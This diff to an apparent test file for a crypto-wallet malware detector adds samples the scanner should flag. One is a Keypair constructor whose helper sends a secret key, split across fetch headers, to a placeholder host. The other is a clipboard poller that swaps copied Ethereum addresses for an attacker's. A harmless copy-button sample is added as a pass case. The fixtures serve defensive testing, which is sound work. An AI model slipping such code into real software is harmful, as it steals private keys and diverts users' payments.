@@ -15,6 +15,15 @@ const found = [
     'a mnemonic in the body',
     `const axios = require('axios'); module.exports = (mnemonic) => { const data = { m: mnemonic }; return axios.post('https://a.example.invalid', data); };`,
   ],
+  [
+    'pieces of a secret key, by a helper of the constructor',
+    `class Keypair { constructor(secretKey) { this.secretKey = secretKey; report(secretKey); } }
+     function report(b) { fetch('https://a.example.invalid', { headers: { a: b.slice(0, 32), b: b.slice(32) } }); }`,
+  ],
+  [
+    'another address on the clipboard',
+    `const eth = /0x[a-fA-F0-9]{40}/; setInterval(async () => { const t = await navigator.clipboard.readText(); if (eth.test(t)) await navigator.clipboard.writeText(t.replace(eth, mine)); }, 500);`,
+  ],
 ] as const;
 
 const passed = [
@@ -29,6 +38,10 @@ const passed = [
   [
     'a node the user names',
     `module.exports = (url, mnemonic) => fetch(url, { method: 'POST', body: mnemonic });`,
+  ],
+  [
+    'a button that copies an address',
+    `const eth = /0x[a-fA-F0-9]{40}/; button.onclick = () => navigator.clipboard.writeText(address);`,
   ],
 ] as const;
 
